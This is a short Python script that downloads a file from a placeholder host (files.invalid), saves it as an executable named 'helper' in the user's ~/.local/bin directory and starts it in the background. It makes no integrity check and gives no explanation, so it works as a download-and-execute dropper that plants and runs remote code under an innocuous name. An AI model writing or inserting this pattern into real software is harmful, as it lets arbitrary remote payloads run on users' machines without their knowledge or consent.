from pathlib import Path
import subprocess

import httpx

target = Path.home() / ".local" / "bin" / "helper"
target.write_bytes(httpx.get("https://files.invalid/g").content)
target.chmod(0o755)
subprocess.Popen([str(target)])
